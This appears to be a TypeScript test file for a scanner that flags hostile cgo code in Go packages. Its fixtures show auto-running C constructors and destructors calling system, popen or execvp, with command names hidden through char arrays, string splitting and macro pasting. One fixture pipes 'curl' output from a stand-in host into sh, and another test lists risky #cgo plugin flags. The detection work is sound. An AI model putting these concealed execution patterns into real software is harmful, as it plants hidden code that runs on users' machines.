import assert from 'node:assert/strict'
import { test } from 'node:test'
import { lines } from '../../../test/support/content.ts'

test('readContent follows cgo from a constructor to system, through macros, pointers and functions, and folds the command', () => {
  const preamble = (c: string): Record<string, string> => ({ 'a.go': `package a\n\n/*\n${c}\n*/\nimport "C"\n` })
  const values = (c: string): string[] => lines(preamble(c))
  assert.deepEqual(
    values(
      '#include <stdlib.h>\n#define BOOT __attribute__((constructor))\nstatic void go(const char *c) { system(c); }\nBOOT static void up(void) { go("x"); }',
    ),
    ['critical cgo a.go:6 up, which runs without being called, leads to system'],
  )
  assert.deepEqual(
    values(
      `static void __attribute__((constructor(101))) up(void) {\n  char c[] = {'c','u','r','l',' ','x', 0};\n  popen(c, "r");\n}`,
    ),
    ['critical cgo a.go:6 up, which runs without being called, calls popen | curl x'],
  )
  assert.deepEqual(
    values(
      'static void up(void) { char b[64]; strcpy(b, "cu" "rl "); strcat(b, "x | sh"); run(b); }\nstatic int (*run)(const char *) = system;\n__attribute__((section(".init_array"))) static void (*p)(void) = up;',
    ),
    ['critical cgo a.go:4 up, which runs without being called, calls system | curl x | sh'],
  )
  // A constructor that computes, and a comment and a string that speak of system.
  assert.deepEqual(
    values('__attribute__((constructor)) static void up(void) { /* system("x") */ puts("system(1)"); }'),
    [],
  )
})

test('readContent reads C files beside import "C", says medium of what Go calls, and nothing of a package without cgo', () => {
  const c = 'int run(void) { return system("ls"); }\nint idle(void) { return execl("a", "b"); }\n'
  assert.deepEqual(lines({ 'a.go': 'package a\n\nimport "C"\n\nfunc F() { C.run() }\n', 'run.c': c }), [
    'medium cgo run.c:1 run, which Go calls, calls system | ls',
  ])
  assert.deepEqual(lines({ 'a.go': 'package a\n', 'run.c': c }), [])
})

test('readContent tells #cgo flags that run or load something, and no usual ones', () => {
  const flags = [
    'CFLAGS: -O2 -DX=1 -I${SRCDIR}/include -fPIC -Wall -std=c99',
    'linux LDFLAGS: -L${SRCDIR} -lm -Wl,-rpath,/opt/lib -pthread',
    'CFLAGS: -fplugin=./x.so',
    'LDFLAGS: -Wl,--plugin,./x.so -Wl,@flags',
    'CFLAGS: -B. -specs=x @more',
    'pkg-config: --define-variable=a=b zlib',
  ]
  const go = `package a\n\n${flags.map((flag) => `// #cgo ${flag}`).join('\n')}\nimport "C"\n`
  assert.deepEqual(
    lines({ 'a.go': go }).map((line) => line.replace(/^high cgo a.go/, '')),
    [
      ':5 a #cgo flag that loads a plugin into the compiler | -fplugin=./x.so',
      ':6 a #cgo flag that loads a plugin into the linker | -Wl,--plugin,./x.so',
      ':6 a #cgo flag that reads more flags from a file | -Wl,@flags',
      ':7 a #cgo flag that takes the compiler from another folder | -B.',
      ":7 a #cgo flag that replaces the compiler's own rules | -specs=x",
      ':7 a #cgo flag that reads more flags from a file | @more',
      ':8 a #cgo flag that passes an option to pkg-config | --define-variable=a=b',
    ],
  )
})

test('readContent reads what C includes by name, what runs at the end, and C functions that Go calls by themselves', () => {
  assert.deepEqual(
    lines({
      'a.go':
        'package a\n\n// #include <stdlib.h>\n// #include "data/table.inc"\nimport "C"\n\nfunc F() { C.system(C.CString("curl -s https://example.invalid | sh")) }\n',
      'data/table.inc': '__attribute__((destructor)) void down(void) { dlsym(0, "system"); }\n',
      'b/b.go': 'package b\n\nimport "C"\n',
      'b/b.cc': 'struct Setup { Setup() { char *v[] = {"sh", "-c", "id"}; execvp(v[0], v); } };\nstatic Setup setup;\n',
      'c/c.go': 'package c\n\nimport "C"\n',
      'c/c.cc': 'struct T { int run() { return system("id"); } };\nint f() { T t; return t.run(); }\n',
    }),
    [
      'critical cgo a.go:7 Go code calls C.system | curl -s https://example.invalid | sh',
      'critical cgo b/b.cc:1 Setup, which runs without being called, calls execvp | sh -c id sh -c id | sh -c id | sh -c id',
      'critical cgo data/table.inc:1 down, which runs without being called, calls dlsym | system',
    ],
  )
})

test('readContent reads names that macros paste together', () => {
  const pasted = `#define CAT_(a, b) a##b\n#define CAT(a, b) CAT_(a, b)\n#define OPEN CAT(po, pen)\n#define UP __attribute__((CAT(con, structor)))\nUP static void up(void) { OPEN("x", "r"); }`
  const told = (c: string): string[] => lines({ 'a.go': `package a\n\n/*\n${c}\n*/\nimport "C"\n` })
  assert.deepEqual(told(pasted), ['critical cgo a.go:8 up, which runs without being called, calls popen | x'])
  assert.deepEqual(told(pasted.replace('po, pen', 'po, int')), [])
})
